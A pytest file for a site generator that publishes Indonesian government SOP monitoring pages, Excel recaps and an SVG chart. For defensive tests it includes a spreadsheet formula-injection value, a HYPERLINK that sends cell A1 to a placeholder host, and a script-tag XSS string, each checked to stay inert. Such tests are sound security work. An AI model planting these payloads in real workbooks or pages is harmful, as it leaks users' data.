"""The page "Monitoring dan evaluasi" (issue 16, items 4-6): each unit's SOPs with their monitoring and
evaluation states, the SOPs waiting for a revision, a chart of the share carried out well, and each
period's recap as an Excel workbook (read back with openpyxl)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import unquote, urljoin

import openpyxl
import pytest
from test_site import page

from conftest import ROOT, build_site, copy_sources
from sopcode.model.due import due
from sopcode.model.monitoring import Periode
from sopcode.model.status import statuses
from sopcode.rules import Report, check
from sopcode.sheets.workbook import BELUM, HEADER_ROW, KOLOM, monitoring_workbook, sheet_name
from sopcode.site.chart import Bar, bar_chart
from sopcode.site.monev import chart

SEMESTER_1 = Periode(2026, 1)
HOSTILE = '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")'
NOT_MONITORED = "sop-pengukuran-kinerja-bungursari"
SVG = "{http://www.w3.org/2000/svg}"


def _report(data: Path):
    return check(str(data), history=False, cache_dir=None)


def _recap(data: Path) -> tuple[bytes, Report]:
    report = _report(data)
    records = {r.sop: r for r in report.monitoring.records if r.periode == SEMESTER_1}
    return monitoring_workbook(SEMESTER_1, report.sops, records, "PEMERINTAH KABUPATEN PURWAKARTA"), report


def _rows(sheet) -> list[tuple]:
    return list(sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True))


def test_the_recap_has_a_sheet_per_unit_with_the_forms_columns_and_real_dates():
    data, _ = _recap(ROOT / "sop_data")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["KECAMATAN BUNGURSARI", "SEKSI KETENTERAMAN DAN KETERTIB",
                               "SEKSI PELAYANAN UMUM", "SUBBAGIAN PERENCANAAN DAN KEUAN"]
    sheet = book["SEKSI PELAYANAN UMUM"]
    assert sheet["A1"].value == "MONITORING PELAKSANAAN SOP AP"
    assert sheet["A2"].value == "PEMERINTAH KABUPATEN PURWAKARTA"
    assert "Semester I 2026" in sheet["A4"].value
    header = [c.value for c in sheet[HEADER_ROW]]
    assert tuple(header) == KOLOM
    assert all(c.font.b for c in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"  # the header stays in view
    assert sheet.column_dimensions["D"].width >= 40
    (row,) = _rows(sheet)
    assert row[:3] == (1, "Pelayanan Surat Keterangan Domisili (470/012/Kec.Bgs/2019)", "berjalan dengan baik")
    assert row[5] == "Dedi Kurniawan, S.IP, Kepala Seksi Pelayanan Umum"
    assert row[6] == dt.datetime(2026, 5, 18)  # a date Excel sorts and filters, shown as 18/05/2026
    assert sheet.cell(HEADER_ROW + 1, 7).number_format == "dd/mm/yyyy"
    assert row[7] == "observasi atasan, wawancara pengguna/masyarakat"
    assert sheet.cell(HEADER_ROW + 1, 4).alignment.wrap_text
    # An SOP in force but not monitored this period is listed as such.
    (missing,) = _rows(book["KECAMATAN BUNGURSARI"])
    assert missing[1] == "Penyusunan Perencanaan Kinerja" and missing[2] == BELUM


def test_text_starting_like_a_formula_stays_text(sop_data_copy: Path):
    monev = sop_data_copy / "_monev" / "2026-1.yaml"
    text = monev.read_text(encoding="utf-8")
    text = text.replace("tindakan: Tidak ada; pelaksanaan dipertahankan.", "tindakan: '+62 812 - @camat'")
    monev.write_text(text, encoding="utf-8")
    _, report = _recap(sop_data_copy)
    records = {r.sop: r for r in report.monitoring.records if r.periode == SEMESTER_1}
    first = records["sop-surat-keterangan-domisili"]
    records[first.sop] = dataclasses.replace(first, catatan=HOSTILE)
    data = monitoring_workbook(SEMESTER_1, report.sops, records, "=1+1")
    book = openpyxl.load_workbook(io.BytesIO(data))
    catatan = book["SEKSI PELAYANAN UMUM"].cell(HEADER_ROW + 1, 4)
    assert catatan.value == HOSTILE and catatan.data_type == "s"
    tindakan = book["SUBBAGIAN PERENCANAAN DAN KEUAN"].cell(HEADER_ROW + 1, 5)
    assert tindakan.value == "+62 812 - @camat" and tindakan.data_type == "s"
    assert book["SEKSI PELAYANAN UMUM"]["A2"].data_type == "s"
    assert not [c.coordinate for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_the_recap_is_the_same_bytes_every_time():
    first, _ = _recap(ROOT / "sop_data")
    second, _ = _recap(ROOT / "sop_data")
    assert first == second
    book = openpyxl.load_workbook(io.BytesIO(first))
    assert book.properties.modified == dt.datetime(2026, 6, 12)  # the period's latest record, not the build's time


def test_sheet_names_are_ones_excel_accepts():
    taken: set[str] = set()
    long = "SEKSI PEMBERDAYAAN MASYARAKAT DAN KESEJAHTERAAN SOSIAL"
    first, second = sheet_name(long, taken), sheet_name(long.lower(), taken)
    assert len(first) <= 31 and len(second) <= 31 and first.casefold() != second.casefold()
    assert second.endswith("(2)")
    odd = sheet_name("Bagian [Umum]: Tata/Usaha*?\\", taken)
    assert not set("[]:*?/\\") & set(odd) and odd.startswith("Bagian")


def test_the_chart_gives_the_share_carried_out_well_per_unit_and_period():
    report = _report(ROOT / "sop_data")
    svg = chart(report.sops, report.monitoring)
    assert svg is not None
    root = ET.fromstring(svg)
    assert root.get("role") == "img" and "berjalan dengan baik" in (root.get("aria-label") or "")
    assert root.find(f"{SVG}title") is not None and root.find(f"{SVG}desc") is not None
    texts = [t.text for t in root.iter(f"{SVG}text")]
    # Semester I 2026: two of the three SOPs monitored were carried out well.
    assert "67% (2 dari 3)" in texts
    assert texts.count("100% (1 dari 1)") == 2 and "0% (0 dari 1)" in texts
    assert {"SEKSI PELAYANAN UMUM", "Semua unit", "0%", "100%"} <= set(texts)
    assert "KECAMATAN BUNGURSARI" not in texts  # its SOP was not monitored: no bar that would read 0 %
    assert chart(report.sops, report.monitoring) == svg


def test_chart_text_is_escaped():
    svg = bar_chart('<script>alert("x")</script>', "a & b", "sumbu", [("Unit <b>", [Bar("P & Q", 1, 2)])])
    root = ET.fromstring(svg)
    assert "<script>" not in svg and "<b>" not in svg
    assert root.find(f"{SVG}title").text == '<script>alert("x")</script>'  # type: ignore[union-attr]
    assert "50% (1 dari 2)" in [t.text for t in root.iter(f"{SVG}text")]


# --- the page in a built site --------------------------------------------------------------

REVISE = "sop-rekomendasi-izin-keramaian"
REVISED = "sop-laporan-penyelenggaraan-pemerintahan-kecamatan"


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    """The seed site without PDFs; the 2026 evaluation asks two SOPs for a revision, one of them
    approved again since (so only the other waits)."""
    project = copy_sources(tmp_path_factory.mktemp("proyek"))
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "      data_dir: sop_data\n", "      data_dir: sop_data\n      pdf: false\n"), encoding="utf-8")
    evaluasi = project / "sop_data" / "_evaluasi" / "2026.yaml"
    blocks = evaluasi.read_text(encoding="utf-8").split("  - sop: ")
    for n, block in enumerate(blocks):
        if block.startswith((REVISE, REVISED)):
            blocks[n] = block.replace("kesimpulan: tetap", "kesimpulan: perlu direvisi").replace(
                "      Waktu mutu baku", "      <b>Mutu baku</b> dikaji. Waktu mutu baku")
    evaluasi.write_text("  - sop: ".join(blocks), encoding="utf-8")
    sop = project / "sop_data" / f"{REVISED}.yaml"
    sop.write_text(sop.read_text(encoding="utf-8").replace("tanggal_revisi: 2023-01-09", "tanggal_revisi: 2026-11-25"),
                   encoding="utf-8")
    return build_site(project)



@pytest.mark.slow
def test_the_page_is_in_the_navigation_next_to_the_list(site: Path):
    text, _ = page(site, "monitoring-dan-evaluasi")
    nav = re.findall(r'class="md-nav__link[^"]*"[^>]*>\s*<span class="md-ellipsis">\s*([^<]+?)\s*</span>', text)
    assert "Monitoring dan evaluasi" in nav
    assert nav.index("Monitoring dan evaluasi") == nav.index("Daftar SOP") + 1


@pytest.mark.slow
def test_each_unit_shows_its_sops_states_as_due_decides(site: Path):
    text, html = page(site, "monitoring-dan-evaluasi")
    report = _report(site.parent / "sop_data")
    today = dt.date.today()
    by_status = statuses(report.sops, today)
    for sop in report.sops:
        monitoring, evaluasi = due(sop, report.monitoring, report.evaluation, today, by_status[sop.id])
        row = re.search(rf'<tr data-sop="{sop.id}">(.*?)</tr>', text, re.S)
        assert row is not None, sop.id
        cells = [re.sub(r"<[^>]+>", " ", c).split() for c in re.findall(r"<td[^>]*>(.*?)</td>", row.group(1), re.S)]
        assert " ".join(cells[1]) == monitoring.state.value
        assert " ".join(cells[4]) == evaluasi.state.value
    # the last monitoring: its date in short form (the full one as its title) and its finding, in one cell
    assert '<time class="sop-tanggal" datetime="2026-05-18" title="18 Mei 2026">18-05-2026</time>' in text
    assert "tidak berjalan dengan baik" in html.article_text
    for unit in ("SEKSI PELAYANAN UMUM", "KECAMATAN BUNGURSARI", "SUBBAGIAN PERENCANAAN DAN KEUANGAN"):
        assert f">{unit}</h2>" in text
    assert re.search(r"Monitoring: \d+ selesai, \d+ jatuh tempo, \d+ terlambat\.", html.article_text)


@pytest.mark.slow
def test_the_sops_waiting_for_a_revision_are_listed_with_links(site: Path):
    text, _ = page(site, "monitoring-dan-evaluasi")
    section = text[text.index('id="perlu-direvisi"'):text.index('id="grafik"')]
    assert "Pelayanan Rekomendasi Izin Keramaian" in section
    assert "16 November 2026" in section
    assert "&lt;b&gt;Mutu baku&lt;/b&gt; dikaji" in section  # text from YAML is escaped
    assert "Penyusunan Laporan Penyelenggaraan" not in section  # approved again after its evaluation
    assert f'href="../sop/{REVISE}/"' in section


@pytest.mark.slow
def test_the_chart_is_inlined_and_the_links_lead_to_files(site: Path):
    text, html = page(site, "monitoring-dan-evaluasi")
    start = text.index("<svg", text.index('class="sop-grafik-monev"'))
    svg = ET.fromstring(text[start:text.index("</svg>", start) + len("</svg>")])
    assert "67% (2 dari 3)" in [t.text for t in svg.iter(f"{SVG}text")]
    here = "monitoring-dan-evaluasi/"
    links = [h for h in html.article_links if not h.startswith(("http", "#"))]
    assert "../monev/rekap-monitoring-2026-1.xlsx" in links
    for href in links:
        target = site / unquote(urljoin(here, href).split("#")[0])
        assert target.is_file() or (target / "index.html").is_file(), href
    recap = openpyxl.load_workbook(site / "monev" / "rekap-monitoring-2026-1.xlsx")
    assert "SEKSI PELAYANAN UMUM" in recap.sheetnames


@pytest.mark.slow
@pytest.mark.browser
def test_with_pdfs_the_page_offers_every_printed_form(tmp_path: Path):
    site = build_site(copy_sources(tmp_path))
    _, html = page(site, "monitoring-dan-evaluasi")
    forms = sorted(h for h in html.article_links if h.startswith("../monev/") and h.endswith(".pdf"))
    assert "../monev/monitoring-2026-1.pdf" in forms and "../monev/evaluasi-2026.pdf" in forms
    assert "../monev/formulir-monitoring-seksi-pelayanan-umum.pdf" in forms
    assert forms == sorted(f"../monev/{p.name}" for p in (site / "monev").glob("*.pdf"))  # each one, and only those
    for href in forms:
        assert (site / href.removeprefix("../")).read_bytes().startswith(b"%PDF")
    assert "Rekap monitoring Semester I 2026 (Excel)" in html.article_text


def test_a_project_without_records_is_not_told_every_sop_is_late(tmp_path: Path):
    from sopcode.publish import Settings, SiteSettings, publish

    data = tmp_path / "sop_data"
    shutil.copytree(ROOT / "sop_data", data, ignore=shutil.ignore_patterns(".cache", "_monev", "_evaluasi"))
    site = SiteSettings(url=lambda p: p.removesuffix(".md") + "/" if p.endswith(".md") else p,
                        relative=lambda url, here: "../" * here.count("/") + url)
    with publish(str(data), Settings(pdf=False, site=site)) as pub:
        (monev,) = [o.page for o in pub.outputs if o.path == "monitoring-dan-evaluasi.md"]
        assert monev is not None
        assert not [o.path for o in pub.outputs if o.path.endswith(".xlsx")]
    assert "Belum ada catatan monitoring di folder" in monev.html
    assert "Belum ada catatan evaluasi di folder" in monev.html
    assert "terlambat" not in monev.html
    assert "Tidak ada SOP yang menunggu revisi hasil evaluasi." in monev.html
